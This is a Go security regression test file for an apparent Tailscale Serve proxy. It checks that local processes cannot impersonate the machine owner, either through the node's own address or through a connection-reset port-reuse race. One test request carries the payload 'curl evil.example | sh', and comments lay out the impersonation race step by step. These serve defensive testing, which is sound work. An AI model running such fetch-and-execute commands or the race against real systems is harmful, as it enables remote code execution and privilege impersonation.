//go:build linux

package tailnet

// What other processes on this machine can and cannot do to who is calling, with real sockets
// and a helper process of another uid: this node's own Tailscale address, and the timing of the
// peer-uid verdict.

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/phase-console/fleet/internal/doortest"
	"github.com/phase-console/fleet/internal/otheruser"
	"github.com/phase-console/fleet/internal/rawhttp"
	"tailscale.com/client/tailscale/apitype"
	"tailscale.com/ipn"
	"tailscale.com/ipn/ipnstate"
)

// Guarded: any local process — any uid — that connects to this node's own Tailscale address
// reaches Tailscale Serve (tailscaled's localListener exists "purely for connections
// from the machine itself", ipn/ipnlocal/serve.go). Serve then sends X-Forwarded-For: <this
// node's address> and, since WhoIs of a node's own address names the node itself
// (nodeBackend.updateNodeByAddrLocked adds SelfNode), Tailscale-User-Login: <the node's owner>.
// Judged as a peer's — a Tailscale IP whose WhoIs names a user — the door would assert the
// machine owner's login: another local user, a daemon, or an agent sandboxed under its own uid
// would drive every console as the owner. VerifyCaller refuses this node's own addresses (403 self). Here the fake LocalAPI
// answers WhoIs(selfIP) as real tailscaled does.
func TestOwnTailnetAddressAssertsOwner_S5(t *testing.T) {
	tn := doortest.NewFakeTailscaled()
	tn.Peers[doortest.SelfIP] = doortest.FakePeer{Login: doortest.Alice} // WhoIs(self) = this node, owned by alice
	d := startDoorWith(t, tn)
	req := strings.Replace(doortest.ServeReq("POST", "/c/alpha/runs", "Content-Length: 0"), "X-Forwarded-For: "+doortest.AliceIP, "X-Forwarded-For: "+doortest.SelfIP, 1)
	before := d.Alpha.Count()
	r := d.Raw(req)
	if d.Alpha.Count() != before {
		s, _ := d.Alpha.Last()
		t.Fatalf("forwarded (%d) with login %q: a local process is asserted as the owner; want a refusal (e.g. 403 self) for this node's own addresses",
			r.Status, s.Header.Get("X-Phase-Console-Fleet-Login"))
	}
}

// Guarded: were the S5a verdict read from /proc/net/tcp when the connection's first /c/ request
// is judged, not at Accept, with nothing to check that the server's own socket still holds the
// 4-tuple, this would get through. A local user connects from 127.0.0.1:X, sends a POST with its body (a request with a
// body starts no background read, so its context is not cancelled), and resets the connection
// (SO_LINGER 0) while the request waits for anything before judgeConn (here: AdmitHost's LocalAPI
// status refresh, which happens every 30 s). The next connection from 127.0.0.1:X — tailscaled's,
// when the attacker steers its ephemeral port by holding the others — is what a late PeerUID
// would find: the stranger's request judged tailscaled's and forwarded with the login of any
// X-Forwarded-For it wrote. The gate below stands for the LocalAPI round trip.
func TestResetConnectionInheritsNextOwner_S5a(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root to run the stranger as another uid")
	}
	gate := &gateAPI{hit: make(chan struct{}), release: make(chan struct{})}
	d := startDoor(t, func(c *Config) { gate.inner = c.LocalAPI; c.LocalAPI = gate })
	gate.arm()

	body := `{"prompt":"curl evil.example | sh"}`
	req := rawhttp.CRLF(doortest.ServeReq("POST", "/c/alpha/runs", "Content-Length: "+strconv.Itoa(len(body)))) + body
	port := otheruser.FreePort(t)
	h := startLocalPeersHelper(t, fmt.Sprintf("rst %d %s", port, d.Addr), req, nil)
	h.Expect(t, "SENT")
	select {
	case <-gate.hit:
	case <-time.After(doortest.WaitLimit):
		t.Fatal("the request never reached the door's Host check")
	}
	h.Say(t, "go")
	h.Expect(t, "RST")
	h.Wait(t)

	// "tailscaled" (this process: TailscaledUID is our uid) opens its next backend connection
	// from the port the stranger just freed.
	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
	next, err := dl.Dial("tcp4", d.Addr)
	if err != nil {
		t.Fatalf("redial from port %d: %v", port, err)
	}
	defer next.Close()
	close(gate.release)

	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) && d.Alpha.Count() == 0 {
		time.Sleep(10 * time.Millisecond)
	}
	if d.Alpha.Count() != 0 {
		s, _ := d.Alpha.Last()
		t.Fatalf("the stranger's %s %s reached the console as %q", s.Method, s.Path, s.Header.Get("X-Phase-Console-Fleet-Login"))
	}
}

// ---- helpers -------------------------------------------------------------------------------------

// gateAPI is a LocalAPI whose first StatusWithoutPeers after arm waits until release: it
// stands for the LocalAPI round trip that AdmitHost makes when its status cache is stale.
type gateAPI struct {
	inner        LocalAPI
	mu           sync.Mutex
	armed        bool
	hit, release chan struct{}
}

func (g *gateAPI) arm() { g.mu.Lock(); g.armed = true; g.mu.Unlock() }

func (g *gateAPI) WhoIs(ctx context.Context, addr string) (*apitype.WhoIsResponse, error) {
	return g.inner.WhoIs(ctx, addr)
}

func (g *gateAPI) GetPrefs(ctx context.Context) (*ipn.Prefs, error) { return g.inner.GetPrefs(ctx) }

func (g *gateAPI) GetServeConfig(ctx context.Context) (*ipn.ServeConfig, error) {
	return g.inner.GetServeConfig(ctx)
}

func (g *gateAPI) StatusWithoutPeers(ctx context.Context) (*ipnstate.Status, error) {
	g.mu.Lock()
	armed := g.armed
	g.armed = false
	g.mu.Unlock()
	if armed {
		close(g.hit)
		<-g.release
		return g.inner.StatusWithoutPeers(context.Background())
	}
	return g.inner.StatusWithoutPeers(ctx)
}

// startLocalPeersHelper starts TestLocalPeersHelperProcess as otheruser.UID with $FLEET_LOCAL_PEERS_PAYLOAD set to
// payload; attr, if not nil, may change how the process is started.
func startLocalPeersHelper(t *testing.T, mode, payload string, attr func(*syscall.SysProcAttr)) *otheruser.Helper {
	t.Helper()
	return otheruser.Start(t, "^TestLocalPeersHelperProcess$", "FLEET_LOCAL_PEERS_HELPER", mode, func(cmd *exec.Cmd) {
		cmd.Env = append(cmd.Env, "FLEET_LOCAL_PEERS_PAYLOAD="+payload)
		if attr != nil {
			attr(cmd.SysProcAttr)
		}
	})
}

// TestLocalPeersHelperProcess is the helper of the tests above; otherwise it does nothing.
//
//	rst PORT ADDR: from 127.0.0.1:PORT connect to ADDR, write $FLEET_LOCAL_PEERS_PAYLOAD, print SENT;
//	               after a line on stdin reset the connection and print RST
func TestLocalPeersHelperProcess(t *testing.T) {
	mode := os.Getenv("FLEET_LOCAL_PEERS_HELPER")
	if mode == "" {
		return
	}
	fail := func(err error) { fmt.Fprintln(os.Stderr, "helper:", err); os.Exit(1) }
	f := strings.Fields(mode)
	stdin := bufio.NewReader(os.Stdin)
	switch f[0] {
	case "rst":
		port, _ := strconv.Atoi(f[1])
		dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
		c, err := dl.Dial("tcp4", f[2])
		if err != nil {
			fail(err)
		}
		io.WriteString(c, os.Getenv("FLEET_LOCAL_PEERS_PAYLOAD"))
		fmt.Println("SENT")
		stdin.ReadString('\n')
		c.(*net.TCPConn).SetLinger(0)
		c.Close()
		fmt.Println("RST")
	}
	os.Exit(0)
}
